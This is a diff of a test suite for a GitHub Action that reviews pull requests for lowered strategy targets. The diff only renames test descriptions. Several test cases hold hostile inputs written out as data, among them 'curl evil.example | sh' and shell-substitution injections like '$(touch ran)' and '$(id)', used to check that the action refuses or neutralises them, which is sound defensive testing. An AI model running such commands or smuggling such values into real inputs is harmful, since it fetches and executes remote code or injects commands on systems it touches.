@@ -62,7 +62,7 @@ const filesIn = (root: string) =>
     .map(({ name }) => textOf(join(root, name)));
 
 describe('a pull request of the repository itself', () => {
-  it('that lowers a target is red, annotated, summed up and commented', async () => {
+  it('fails, with annotations, a summary and a comment, if it lowers a target', async () => {
     const { code, log, outputs, summary, comments } = await run();
     expect(code).toBe(1);
     expect(log).toMatch(/^::error file=strategy\.yaml,line=\d+,.*title=target-lowered::/m);
@@ -82,14 +82,14 @@ describe('a pull request of the repository itself', () => {
     expect(withoutCounts(summary.replace(/@[0-9a-f]{7}/, '@a1b2c3d'))).toBe(example);
   });
 
-  it('that changes nothing of what was promised is green, and not commented', async () => {
+  it('passes without a comment if no commitment changes', async () => {
     const { code, outputs, comments, log } = await run({ change: reordered });
     expect([code, outputs['exit-code'], outputs['goalposts-moved']]).toEqual([0, '0', '0']);
     expect(comments).toEqual([]);
     expect(log).toContain('there is nothing to tell');
   });
 
-  it('that puts a target back clears its comment', async () => {
+  it('clears its comment if it restores a target', async () => {
     const body = '<!-- strat-review 1 all 3999999999 1 -->\n## 1 goalpost moved without a reason\n';
     const { code, comments } = await run({ change: reordered, comments: [{ author: BOT, body }] });
     expect(code).toBe(0);
@@ -97,7 +97,7 @@ describe('a pull request of the repository itself', () => {
     expect(comments[0]).toContain('4000000001 1 -->\n## Nothing moved\n\n**May it merge? Yes**');
   });
 
-  it('that says why is green, and its comment says so', async () => {
+  it('passes with an explaining comment if it gives a reason', async () => {
     const body = '<!-- strat-review 1 all 3999999999 1 -->\n## 1 goalpost moved without a reason\n';
     const why = 'The course comes a year later.';
     const change =
@@ -116,7 +116,7 @@ describe('a pull request of the repository itself', () => {
     [403, '`permissions: pull-requests: write`'],
     [404, 'finds no pull request 7'],
     [401, 'does not know the token'],
-  ])('keeps its verdict where GitHub says %i', async (status, said) => {
+  ])('keeps its verdict if GitHub replies %i', async (status, said) => {
     const { code, log, summary } = await run({ instead: () => ({ status, body: {} }) });
     expect(code).toBe(1);
     expect(log).toContain('No comment: ');
@@ -124,26 +124,26 @@ describe('a pull request of the repository itself', () => {
     expect(summary).toContain('1 goalpost moved');
   });
 
-  it('of a checkout that is too shallow cannot be judged, and says what would help', async () => {
+  it('cannot be judged in a checkout that is too shallow, and gets advice', async () => {
     const { code, log, outputs, comments } = await run({ depth: 1 });
     expect([code, outputs['exit-code']]).toEqual([2, '2']);
     expect(log).toContain('Set `fetch-depth: 2` in the checkout step, or run: git fetch --deepen=1');
     expect(comments).toEqual([]);
   });
 
-  it('is left without a comment where none is wanted', async () => {
+  it('gets no comment if none is wanted', async () => {
     const { code, log, comments } = await run({ inputs: { comment: 'false' } });
     expect([code, comments, server?.asked]).toEqual([1, [], []]);
     expect(log).not.toContain('comment');
   });
 
-  it('is left without a comment where there is no token, which is said', async () => {
+  it('gets no comment and a message if there is no token', async () => {
     const { code, log, comments } = await run({ inputs: { token: '' } });
     expect([code, comments, server?.asked]).toEqual([1, [], []]);
     expect(log).toContain('No comment: there is no token: hand it over as GITHUB_TOKEN.');
   });
 
-  it('never shows a token, also where it was pasted with a line break', async () => {
+  it('never shows a token, even one pasted with a line break', async () => {
     const { code, log } = await run({ inputs: { token: `${TOKEN.slice(0, 20)}\n${TOKEN.slice(20)}` } });
     expect(code).toBe(1);
     expect(log).toContain('GITHUB_TOKEN holds what no token has');
@@ -152,7 +152,7 @@ describe('a pull request of the repository itself', () => {
 });
 
 describe('a dry run', () => {
-  it('prints what would be sent, sends nothing and writes nothing', async () => {
+  it('prints the requests, sends nothing and writes nothing', async () => {
     job = checkout(lowered);
     server = await localGithub();
     const [summary, outputs] = [join(job.top, 'summary'), join(job.top, 'outputs')];
@@ -179,7 +179,7 @@ describe('a dry run', () => {
 });
 
 describe('inputs', () => {
-  it('reach the program as they are, and no shell', async () => {
+  it('reach the program unchanged, without a shell', async () => {
     const folder = 'team one/$(touch ran)';
     const inputs = {
       paths: `${folder}/strategy.yaml\n`,
@@ -201,13 +201,13 @@ describe('inputs', () => {
     [{ paths: '--no-comment' }, '--no-comment'],
     [{ paths: 'nowhere' }, 'nowhere'],
     [{ save: 'strategy.yaml' }, 'strategy.yaml is a strategy, so it is not replaced.'],
-  ])('%j is a 2', async (inputs, said) => {
+  ])('exit with 2 for %j', async (inputs, said) => {
     const { code, log, outputs } = await run({ inputs });
     expect([code, outputs['exit-code']]).toEqual([2, '2']);
     expect(log).toContain(said);
   });
 
-  it('stand in no script', () => {
+  it('are in no script', () => {
     for (const { run: script, shell } of ACTION.runs.steps) {
       expect(script).not.toContain('${{');
       expect(shell).toBe('bash');
@@ -217,7 +217,7 @@ describe('inputs', () => {
 });
 
 describe('a push', () => {
-  it('is compared with what was there before, and nobody is talked to', async () => {
+  it('is compared with the commit before it, and sends no request', async () => {
     const { code, log, summary, outputs } = await run({ trigger: push });
     expect(code).toBe(1);
     expect(log).toContain('No comment: this run is not about a pull request.');
@@ -226,7 +226,7 @@ describe('a push', () => {
     expect(server?.asked).toEqual([]);
   });
 
-  it('of one commit has nothing to compare with, and does not say that nothing moved', async () => {
+  it('has nothing to compare with if it is one commit, and does not claim that nothing moved', async () => {
     const { code, summary } = await run({ trigger: push, depth: 1 });
     expect(code).toBe(0);
     expect(summary).toContain('## Nothing is found\n');
@@ -257,7 +257,7 @@ describe('a fork', () => {
     expect(server?.asked).toEqual([]);
   });
 
-  it('gets its comment from a second job, which looks its number up', async () => {
+  it('gets its comment from a second job, which looks up its number', async () => {
     await run({ fork: true, inputs: saving });
     const saved = textOf(join(job?.root ?? '', 'strat-review.json'));
     const { code, log, comments } = await post(saved);
@@ -268,7 +268,7 @@ describe('a fork', () => {
     expect(server?.lines()[0]).toBe('GET /repos/harbor/strategy/pulls');
   });
 
-  it('gets none where it has moved on, or where its run was another', async () => {
+  it('gets no comment if it has moved on, or if its run was another', async () => {
     await run({ fork: true, inputs: saving });
     const saved = textOf(join(job?.root ?? '', 'strat-review.json'));
     const before = await post(saved, workflowRun('c'.repeat(40)));
@@ -295,7 +295,7 @@ describe('a fork', () => {
     ['another command', { command: 'curl evil.example | sh' }],
     ['a folder that a shell would run', { command: 'strat amend a "$(id)" --why "…"' }],
     ['a command with more on its line', { command: 'strat amend a --why "…"\n```\n# Hi' }],
-  ])('with %s is refused whole', async (_what, change) => {
+  ])('is refused as a whole with %s', async (_what, change) => {
     await run({ fork: true, inputs: saving });
     const { code, log, comments } = await post(hostile(change));
     expect([code, comments]).toEqual([2, []]);
@@ -309,7 +309,7 @@ describe('a fork', () => {
     ['another version', '{"version":2}'],
     ['too much', ' '.repeat(5_000_000)],
     ['deep nesting', '['.repeat(200_000)],
-  ])('whose file holds %s is told so', async (_what, saved) => {
+  ])('gets a message if its file contains %s', async (_what, saved) => {
     await run({ fork: true, inputs: saving });
     const { code, log, comments } = await post(saved);
     expect([code, comments]).toEqual([2, []]);
